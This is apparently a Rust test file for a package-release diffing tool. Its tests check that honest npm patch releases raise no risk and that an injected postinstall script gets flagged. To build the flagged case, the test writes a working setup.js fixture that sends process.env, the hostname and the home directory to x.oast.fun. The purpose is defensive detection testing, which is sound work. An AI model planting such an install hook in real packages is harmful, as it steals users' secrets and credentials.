//! `diff` on real consecutive releases (no new risk) and on a real release with an
//! injected install script (the account-takeover shape), built with the real tar and
//! gzip writers from the published tarball.

use palisade_detect::diff::{ChangeKind, DiffSide, RiskChange, VersionDiff, diff};
use palisade_detect::{Analysis, Engine, ScanOptions};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

fn real(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../testdata/real")
        .join(name)
}

fn analyse(engine: &Engine, path: &Path) -> Analysis {
    engine.analyse_path(path).expect("analysable")
}

fn compare(engine: &Engine, old: &Path, new: &Path) -> VersionDiff {
    let (a, b) = (analyse(engine, old), analyse(engine, new));
    diff(
        &DiffSide {
            target: "old",
            analysis: &a,
            metadata: None,
        },
        &DiffSide {
            target: "new",
            analysis: &b,
            metadata: None,
        },
    )
}

/// The files of a `.tgz`, in order.
fn read_tgz(path: &Path) -> Vec<(String, Vec<u8>)> {
    let file = std::fs::File::open(path).unwrap();
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(file));
    let mut out = Vec::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        out.push((name, data));
    }
    out
}

fn write_tgz(path: &Path, files: &[(String, Vec<u8>)]) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).unwrap(),
        flate2::Compression::default(),
    );
    let mut builder = tar::Builder::new(gz);
    for (name, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, name, data.as_slice())
            .unwrap();
    }
    builder
        .into_inner()
        .unwrap()
        .finish()
        .unwrap()
        .flush()
        .unwrap();
}

#[test]
fn honest_patch_releases_show_no_new_risk() {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    for (old, new) in [
        ("left-pad-1.2.0.tgz", "left-pad-1.3.0.tgz"),
        ("esbuild-0.19.0.tgz", "esbuild-0.19.1.tgz"),
    ] {
        let d = compare(&engine, &real(old), &real(new));
        assert_eq!(d.risk, RiskChange::None, "{old} -> {new}: {:#?}", d.changes);
        assert!(d.files.changed > 0, "{old} -> {new} changed files");
        assert!(d.changes.iter().all(|c| !c.raises_risk));
    }
}

#[test]
fn an_injected_postinstall_stands_out() {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    let original = real("left-pad-1.3.0.tgz");
    let mut files = read_tgz(&original);
    for (name, data) in &mut files {
        if name == "package/package.json" {
            let text = String::from_utf8(data.clone()).unwrap();
            let patched = text.replacen(
                "\"scripts\": {",
                "\"scripts\": {\n    \"postinstall\": \"node setup.js\",",
                1,
            );
            assert_ne!(patched, text, "the fixture has a scripts object to extend");
            *data = patched.into_bytes();
        }
    }
    files.push((
        "package/setup.js".into(),
        br#"const os = require('os'); const https = require('https');
const data = JSON.stringify({ env: process.env, host: os.hostname(), home: os.homedir() });
const req = https.request({ hostname: 'x.oast.fun', path: '/c', method: 'POST' });
req.write(data); req.end();
"#
        .to_vec(),
    ));
    let dir = std::env::temp_dir().join(format!("palisade-diff-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let hijacked = dir.join("left-pad-1.3.1.tgz");
    write_tgz(&hijacked, &files);

    let d = compare(&engine, &original, &hijacked);
    let back = compare(&engine, &hijacked, &original);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(d.risk, RiskChange::Raised, "{:#?}", d.changes);
    let added = d
        .changes
        .iter()
        .find(|c| c.kind == ChangeKind::InstallScriptAdded)
        .expect("the new postinstall is reported");
    assert!(added.raises_risk);
    assert!(added.message.contains("postinstall"), "{}", added.message);
    assert!(
        d.changes
            .iter()
            .any(|c| c.raises_risk && c.path.as_deref().is_some_and(|p| p.ends_with("setup.js"))),
        "the file the script runs is named: {:#?}",
        d.changes
    );
    assert_eq!(d.files.added, 1);

    // The other way round, the script disappears and nothing adds risk.
    assert_ne!(back.risk, RiskChange::Raised, "{:#?}", back.changes);
    assert!(
        back.changes
            .iter()
            .any(|c| c.kind == ChangeKind::InstallScriptRemoved)
    );
}
